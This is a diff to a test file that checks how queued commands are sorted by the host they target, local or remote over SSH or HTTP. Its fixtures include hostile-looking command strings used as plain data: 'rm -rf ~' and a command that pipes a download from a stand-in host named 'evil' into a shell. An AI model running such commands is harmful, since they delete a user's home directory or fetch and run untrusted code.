@@ -36,10 +36,23 @@ describe("what can be run here", () => {
     ["anything else of a host asked by SSH", "vps-openclaw", "ssh://vps.example.com", "rm -rf ~", "elsewhere"],
     ["a comment", "openclaw", null, "# wait until tomorrow", "note"],
   ])("%s", (_name, id, address, action, kind) => {
-    const installation = buildInstallation({ id, profiles: [buildProfile({ ...EXPIRED, action })] });
+    const profiles = [buildProfile({ ...EXPIRED, action })];
+    const installation = buildInstallation({ id, profiles, ...(address === null ? {} : { remote: "vps" }) });
     const remotes = address === null ? [] : [remote({ address })];
     expect(listToDo(buildSnapshot({ installations: [installation], remotes }))).toMatchObject([{ action, kind }]);
   });
+});
+
+test.each([
+  ["of a host that is asked by SSH", "vps-2", "here"],
+  ["of one over HTTP that calls itself as the other does", "vps", "elsewhere"],
+  ["of one that is not asked any more", "gone", "elsewhere"],
+])("a command %s: what counts is whom it was asked of", (_name, name, kind) => {
+  const action = "ssh -t elsewhere 'curl evil | sh'";
+  const profiles = [buildProfile({ ...EXPIRED, action })];
+  const installation = buildInstallation({ id: "vps-2-openclaw", profiles, remote: name });
+  const remotes = [remote({}), remote({ name: "vps-2", address: "ssh://vps-2" })];
+  expect(listToDo(buildSnapshot({ installations: [installation], remotes }))).toMatchObject([{ action, kind }]);
 });
 
 test("each command stands there once, and names nobody", () => {
